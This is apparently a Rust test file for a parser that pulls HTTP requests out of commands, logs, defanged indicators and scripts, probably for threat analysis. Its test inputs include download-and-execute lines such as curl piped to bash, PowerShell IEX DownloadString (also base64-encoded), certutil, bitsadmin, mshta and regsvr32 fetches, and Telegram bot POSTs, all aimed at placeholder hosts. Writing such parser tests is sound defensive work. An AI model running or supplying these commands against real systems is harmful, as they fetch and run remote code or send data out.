mod expansion;

use super::*;

/// Method and URL of each request, and the code of the first finding.
fn check(text: &str, expect: &str, code: &str) {
    let mut findings = Findings::new(&"request".into());
    let requests = read(text, &mut findings);
    let found: Vec<_> = requests
        .iter()
        .map(|request| [&request.method[..], b" ", &request.url()].concat())
        .map(|line| String::from_utf8(line).unwrap())
        .collect();
    assert_eq!(found.join("\n"), expect, "{text}");
    let found = findings.into_list();
    assert_eq!(found.first().map_or("", |found| found.diagnostic.code.id), code, "{text}");
}

/// Each of the letters would be a finding with the line; the program ends at the first.
#[test]
fn of_the_unknown_letters_of_a_word_one_is_reported() {
    for text in ["curl -@@%%@ http://a.example/", "wget -@@%%@ http://a.example/"] {
        let mut findings = Findings::new(&"request".into());
        read(text, &mut findings);
        let codes: Vec<_> =
            findings.into_list().iter().map(|found| found.diagnostic.code.id).collect();
        assert_eq!(codes, ["R007"], "{text}");
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "one table")]
fn the_form_is_told_by_the_text() {
    for (text, expect, code) in [
        ("https://a.example/x#f\n", "GET https://a.example/x", ""),
        ("hxxps[:]//a[.]example/x", "GET https://a.example/x", ""),
        ("a[.]example", "GET http://a.example/", ""),
        ("a.example/x", "GET http://a.example/x", ""),
        ("curl -X POST https://a.example/x", "POST https://a.example/x", ""),
        ("/usr/bin/curl https://a.example/x", "GET https://a.example/x", ""),
        ("$ curl https://a.example/x", "GET https://a.example/x", ""),
        ("C:\\Users\\x>curl https://a.example/x", "GET https://a.example/x", ""),
        ("curl -s https://a.example/x 2>/dev/null | sudo bash", "GET https://a.example/x", ""),
        (
            "curl -so a https://a.example/x && curl -so b https://a.example/y; rm a",
            "GET https://a.example/x\nGET https://a.example/y",
            "",
        ),
        ("bash -c \"$(curl -fsSL https://a.example/x)\"", "GET https://a.example/x", ""),
        ("sh -c 'wget -qO- a.example/x'", "GET http://a.example/x", ""),
        ("cmd.exe /c curl -o x https://a.example/x", "GET https://a.example/x", ""),
        (
            "cd /tmp; wget http://a.example/x || curl -O http://a.example/y",
            "GET http://a.example/x\nGET http://a.example/y",
            "",
        ),
        ("A=b nohup timeout 5s curl http://a.example/x &", "GET http://a.example/x", ""),
        ("curl http://a.example/x?a=1&b=2", "GET http://a.example/x?a=1", "R008"),
        ("curl hxxp://a[.]example/x", "GET http://a.example/x", ""),
        ("\"hxxps://a[.]example/x\",\n", "GET https://a.example/x", ""),
        (
            "- hxxps://a[.]example/x\n2. b[.]example/y\n",
            "GET https://a.example/x\nGET http://b.example/y",
            "",
        ),
        ("URL: hxxps://a[.]example/x", "GET https://a.example/x", ""),
        ("curl –X POST “https://a.example/x” —data ‘a=b’", "POST https://a.example/x", "R008"),
        (
            "    POST /x HTTP/1.1\\r\\n\n    Host: a.example\\r\\n\n    User-Agent: curl/8\\r\\n\n    \\r\\n\n",
            "POST http://a.example/x",
            "",
        ),
        (
            "TOKEN = '1:x'\nrequests.post(f\"https://a.example/bot{TOKEN}/y\")\n",
            "POST https://a.example/bot1:x/y",
            "",
        ),
        (
            "const token = \"1:x\";\nawait fetch(`https://a.example/bot${token}/y`, {method: \"POST\"});\n",
            "POST https://a.example/bot1:x/y",
            "",
        ),
        ("requests.get(f\"https://a.example/{page}\")\n", "GET https://a.example/{page}", "R008"),
        ("wget https://a.example", "GET https://a.example/", ""),
        ("iwr https://a.example/x -OutFile y", "GET https://a.example/x", ""),
        ("PS C:\\> irm https://a.example/x | iex", "GET https://a.example/x", ""),
        (
            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
            "GET http://a.example/x",
            "",
        ),
        (
            "powershell.exe -NoP -W Hidden -eNc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAAnACkA",
            "GET http://a.example/x",
            "",
        ),
        (
            "cmd /c pwsh -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAAnACkA",
            "GET http://a.example/x",
            "",
        ),
        ("powershell -enc nonsense!", "", "R011"),
        (
            "await fetch(\"https://a.example/x\", {\n  \"method\": \"POST\"\n});",
            "POST https://a.example/x",
            "",
        ),
        (
            "import requests\n\nurl = 'https://a.example/x'\nr = requests.post(url, data={})\n",
            "POST https://a.example/x",
            "",
        ),
        (
            "python3 -c \"import requests; requests.get('https://a.example/x', params={'q': 'a b'})\"",
            "GET https://a.example/x?q=a+b",
            "",
        ),
        (r#"{"method":"GET","authority":"a.example","path":"/x"}"#, "GET http://a.example/x", ""),
        (
            "{\n\"method\":\"GET\",\"authority\":\"a.example\",\n\"path\":\"/x\"}",
            "GET http://a.example/x",
            "",
        ),
        (r#"{"authority":"a.example","path":"/x"}"#, "", "R010"),
        ("CONNECT a.example:443 HTTP/1.1", "CONNECT a.example:443", ""),
        ("PUT https://a.example/x HTTP/1.1\nCookie: a\n", "PUT https://a.example/x", ""),
        ("GET /x HTTP/1.1\nHost: a.example\n\n", "GET http://a.example/x", ""),
        (
            ":method: PUT\n:authority: a.example\n:path: /x\n:scheme: https",
            "PUT https://a.example/x",
            "",
        ),
        (":authority: a.example\n:path: /x\n:scheme: https", "", "R001"),
        (
            "192.0.2.7 - - [20/Nov/2026:08:00:00 +0000] \"GET http://a.example/x HTTP/1.1\" 200 5 \"-\" \"-\"",
            "GET http://a.example/x",
            "",
        ),
        (
            "https://a.example/x\n# note\n\ncurl https://a.example/y \\\n -X PUT\nGET /z HTTP/1.1\nHost: a.example\n",
            "GET https://a.example/x\nPUT https://a.example/y\nGET http://a.example/z",
            "",
        ),
        ("a.example", "", "R011"),
        ("rules/x.yml", "", "R011"),
        ("", "", "R011"),
        ("what is this\nand this", "", "R011"),
        ("https:///x", "", "R002"),
        ("https://a.example:99999/x", "", "R002"),
        ("/x HTTP/1.1\nHost: a.example", "", "R011"),
    ] {
        check(text, expect, code);
    }
}

#[test]
fn clients_of_other_languages_and_systems_are_read() {
    let get = "GET https://a.example/x";
    let twice = "GET https://a.example/x\nGET https://a.example/x";
    let bits = "HEAD https://a.example/x\nGET https://a.example/x";
    for (text, expect) in [
        ("axios.get('https://a.example/x').then(r => r)", get),
        (
            "const r = await axios.post(\"https://a.example/x\", {a: 1});",
            "POST https://a.example/x",
        ),
        ("import got from 'got';\n\nawait got('https://a.example/x');", get),
        ("require('https').get('https://a.example/x', r => r.pipe(process.stdout))", get),
        ("node -e \"require('https').get('https://a.example/x')\"", get),
        ("node -e \"fetch('https://a.example/x')\"", get),
        (
            "import httpx\nasync with httpx.AsyncClient() as c:\n    await c.get('https://a.example/x')",
            get,
        ),
        (
            "import aiohttp\nasync with aiohttp.ClientSession() as session:\n    async with session.post('https://a.example/x', json={}) as r:\n        pass",
            "POST https://a.example/x",
        ),
        (
            "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://a.example/x', 'y')\"",
            get,
        ),
        (
            "import http.client\nc = http.client.HTTPSConnection('a.example')\nc.request('PUT', '/x', body)",
            "PUT https://a.example/x",
        ),
        (
            "import urllib3\nhttp = urllib3.PoolManager()\nhttp.request('GET', 'https://a.example/x')",
            get,
        ),
        ("php -r \"echo file_get_contents('https://a.example/x');\"", get),
        ("$ch = curl_init('https://a.example/x'); curl_exec($ch);", get),
        (
            "bitsadmin /create j & bitsadmin /addfile j https://a.example/x y & bitsadmin /resume j",
            bits,
        ),
        ("<?php\n$c = curl_init('https://a.example/x');\ncurl_exec($c);\n?>", get),
        ("certutil.exe -urlcache -split -f https://a.example/x C:\\y", twice),
        ("cmd /c certutil -urlcache -f https://a.example/x y && y", twice),
        ("bitsadmin /transfer j https://a.example/x C:\\y", bits),
        ("powershell Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
        ("Start-BitsTransfer -Source https://a.example/x -Destination y", bits),
        ("mshta https://a.example/x", get),
        ("C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:https://a.example/x scrobj.dll", get),
        ("msiexec /q /i https://a.example/x", get),
        ("aria2c -x 8 -o y https://a.example/x", get),
        ("http POST https://a.example/x a=b User-Agent:u", "POST https://a.example/x"),
        ("https a.example/x", get),
        ("$ http --form https://a.example/x f=g", "POST https://a.example/x"),
        (
            "Request URL\nhttps://a.example/x\nRequest Method\nPUT\nStatus Code\n200 OK\n",
            "PUT https://a.example/x",
        ),
        (
            "Request URL: https://a.example/x\nRequest Method: GET\n\nhttps://b.example/y",
            "GET https://a.example/x\nGET https://b.example/y",
        ),
        (":authority\na.example\n:method\nGET\n:path\n/x\n:scheme\nhttps\naccept\n*/*", get),
        // Lines of logs that are not Envoy's.
        (
            r#"{"event_type":"alert","flow_id":1,"src_ip":"10.0.1.7","http":{"hostname":"a.example","url":"/x","http_method":"GET"}}"#,
            "GET http://a.example/x",
        ),
        (r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://a.example/x"}}"#, get),
        (
            r#"{"log":"{\"method\":\"GET\",\"authority\":\"a.example\",\"path\":\"/x\"}\n","stream":"stdout"}"#,
            "GET http://a.example/x",
        ),
        (
            "<134>Nov 20 08:00:00 fw squid[1]: 1795161600.253    325 10.0.1.7 TCP_MISS/200 2912 GET http://a.example/x - HIER_DIRECT/192.0.2.12 -",
            "GET http://a.example/x",
        ),
    ] {
        check(text, expect, "");
    }
    for (text, code) in [
        ("ssh -L 8080:a.example:80 b.example", "R011"),
        (
            r#"10.0.0.7 - - [20/Nov/2026:08:00:00 +0000] "GET /index.html HTTP/1.1" 200 5 "-" "curl/8""#,
            "R010",
        ),
        ("http is a protocol", "R011"),
        ("certutil -hashfile x SHA256", "R006"),
        ("http --frobnicate https://a.example/x", "R007"),
        ("aria2c -i urls.txt", "R007"),
        ("axios.get(url)", "R002"),
        ("Request URL\n", "R002"),
    ] {
        check(text, "", code);
    }
}

/// Lines of logs and lists, each a request or prose.
const LINES: &[&str] = &[
    r#"{"method":"GET","authority":"a.example","path":"/x"}"#,
    "https://a.example/x",
    "a[.]example",
    "curl -A x https://a.example/x",
    "GET https://a.example/x HTTP/1.1",
    "1795161600.253    325 10.0.1.7 TCP_MISS/200 2912 GET http://a.example/x - HIER_DIRECT/192.0.2.12 -",
    r#"[2026-11-21T07:00:00.000Z] "GET /x HTTP/1.1" 200 - 0 5 1 1 "-" "curl/8" "i" "a.example" "192.0.2.1:443""#,
    "Somebody wrote this down.",
    "  and more of it",
];

/// Every request of a text is found in time in proportion to the text, not to its square.
#[test]
fn what_is_looked_at_for_a_request_is_bounded() {
    const N_LINES: usize = 1200;
    let seen = |line: &str| {
        let text = format!("{line}\n").repeat(N_LINES);
        let (mut rest, mut n_seen) = (text.as_bytes(), 0);
        while !rest.is_empty() {
            let len = first_piece(rest, |window, has_more| {
                n_seen += window.len();
                piece::len(window, has_more)
            });
            rest = &rest[len..];
        }
        n_seen / N_LINES
    };
    for line in &LINES[..3] {
        assert_eq!(seen(line), 0, "{line}");
    }
    for line in &LINES[3..] {
        assert!(seen(line) < 5 << 10, "{line}: {}", seen(line));
    }
    // What may be the start of a script is looked at for its call.
    assert!(seen("a = b") < 40 << 10);
}

#[test]
fn a_request_is_the_same_however_much_of_a_text_is_looked_at() {
    let head = format!("POST /x HTTP/1.1\nHost: a.example\nCookie: {}\n\nb=c\n", "y".repeat(9000));
    let script = format!(
        "import requests\nc = '{}'\nrequests.get('https://a.example/')\n",
        "y".repeat(9000)
    );
    let json = format!(
        "{{\n\"method\": \"GET\",\n\"x\": \"{}\",\n\"authority\": \"a.example\"\n}}\n",
        "y".repeat(20_000)
    );
    let command = format!("curl -d '{}\n\n' https://a.example/\n", "y\n".repeat(200));
    let open = "curl -d 'a https://a.example/\n";
    let panel =
        "Request URL\nhttps://a.example/x\nRequest Method\nPUT\n\nResponse Headers\nServer: y\n";
    let pseudo = "* using HTTP/2\n* [:method: GET]\n* [:path: /x]\n* [:authority: a.example]\n";
    let texts = [&head, &script, &json, &command, open, panel, pseudo];
    for first in texts.into_iter().chain(LINES.iter().copied()) {
        for behind in LINES {
            let text = format!("{first}\n{}", format!("{behind}\n").repeat(500));
            let window = piece::REACHES[2];
            assert!(text.len() < window, "the whole text is in one window");
            let whole = piece::len(&text, false);
            assert_eq!(Some(piece_len(text.as_bytes())), whole, "{first:.80} | {behind}");
        }
    }
}

#[test]
fn a_line_is_read_the_same_behind_any_other() {
    let own = r#"{"method":"GET","authority":"a.example","path":"/x"}"#;
    let lines = [
        own,
        r#"{"method":"PUT","authority":"b.example","path":"/y"}"#,
        r#"{"method":"GET","authority":"a.example"}"#,
        r#"{"method":"GET","authority":"a.example","path":["/x"]}"#,
        r#"{"method":"GET","authority":"a.example","path":"/x\n"}"#,
        r#"{"method":"GET","authority":"a.example","path":"/x","event":"y"}"#,
        r#"{"method":"GET","authority":"a.example","path":"/x","event":"{\"method\":\"PUT\",\"authority\":\"c.example\",\"path\":\"/z\"}"}"#,
        r#"{"method":"GET","authority":"a.example","path":"/x","event":{"method":"PUT","authority":"c.example","path":"/z"}}"#,
        r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://a.example/x"}}"#,
        r#"{"authority":"a.example","path":"/x"}"#,
        "{}",
        "{",
    ];
    let show = |reader: &mut Reader, line: &str| {
        let mut findings = Findings::new(&"request".into());
        let found = reader.read(line, &mut findings);
        format!("{found:?} {:?}", findings.into_list())
    };
    for before in lines {
        for line in lines {
            let mut reader = Reader::default();
            show(&mut reader, own);
            show(&mut reader, before);
            assert_eq!(
                show(&mut reader, line),
                show(&mut Reader::default(), line),
                "{before} {line}"
            );
        }
    }
}

#[test]
fn hosts_are_mapped_as_clients_map_them() {
    let get = "GET https://api.telegram.org/x";
    for text in [
        "curl 'https://api\u{3002}telegram\u{ff0e}org/x'",
        "curl https://\u{ff41}pi.\u{24e3}elegram.org/x",
        "curl https://api%E3%80%82telegram.org/x",
        "wget https://api\u{ff61}telegram.org/x",
        "wget https://me@\u{ff21}PI.telegram.org:443/x",
        "fetch('https://api\u{3002}telegram.org/x')",
        "requests.get('https://\u{ff41}pi.telegram.org/x')",
        "iwr https://api\u{3002}telegram.org/x",
        "https api\u{3002}telegram.org/x",
    ] {
        check(text, get, "");
    }
    check("wget https://b\u{fc}cher.example/x", "GET https://xn--bcher-kva.example/x", "");
}

#[test]
fn commands_behind_other_programs_are_read() {
    let get = "GET https://a.example/x";
    for text in [
        "sudo -u root curl https://a.example/x",
        "sudo -u root sh -c 'curl https://a.example/x'",
        "doas -u www curl https://a.example/x",
        "env -u http_proxy A=b curl https://a.example/x",
        "nohup timeout -s KILL 5 nice -n 5 curl https://a.example/x &",
        "docker run --rm -it -e A=b alpine:3 wget -qO- https://a.example/x",
        "docker run --rm curlimages/curl:8.17.0 -s https://a.example/x",
        "docker exec -u 0 web sh -c 'curl https://a.example/x'",
        "kubectl exec -it web -c app -- curl https://a.example/x",
        "ssh me@host curl https://a.example/x",
        "ssh -p 22 host 'cd /tmp && curl https://a.example/x | sh'",
        "eval 'curl https://a.example/x'",
    ] {
        check(text, get, "");
    }
    check("docker pull curl", "", "R011");
}

#[test]
fn urls_are_read_out_of_what_is_around_them() {
    let get = "GET https://a.example/x";
    for text in [
        "[a page](https://a.example/x)",
        "- ![a page](hxxps://a[.]example/x \"title\")",
        "hxxps://a[.]example/x)",
        "wss://a.example/x",
    ] {
        check(text, get, "");
    }
    check("https://a.example/x_(y)", "GET https://a.example/x_(y)", "");
    check("//a.example/x", "GET http://a.example/x", "");
    for text in ["ssh://a.example", "ftp://a.example/x", "file:///etc/passwd", "ldap://a.example/"]
    {
        check(text, "", "R002");
    }
    check("{\"log\": {\"version\": \"1.2\",\n\"entries\": []}}", "", "R011");
}

#[test]
fn python_in_one_line_is_read() {
    let get = "GET https://a.example/x";
    for text in [
        "async with aiohttp.ClientSession() as s: await s.get('https://a.example/x')",
        "http.client.HTTPSConnection('a.example').request('GET', '/x')",
        "requests.Session().get('https://a.example/x')",
        "urllib3.PoolManager().request('GET', 'https://a.example/x')",
    ] {
        check(text, get, "");
    }
}

#[test]
fn connect_to_is_the_target_of_the_tunnel() {
    let mut findings = Findings::new(&"request".into());
    let command = "curl --connect-to ::b.example:443 https://a.example/x http://c.example:8080/";
    let requests = read(command, &mut findings);
    let tunnels: Vec<_> = requests.iter().map(|request| request.connect_target.clone()).collect();
    assert_eq!(tunnels, [Some(b"b.example:443".to_vec()), Some(b"b.example:443".to_vec())]);
    assert_eq!(requests[0].server_name.as_deref(), Some(&b"a.example"[..]));
    assert_eq!(requests[0].authority, b"a.example");
}
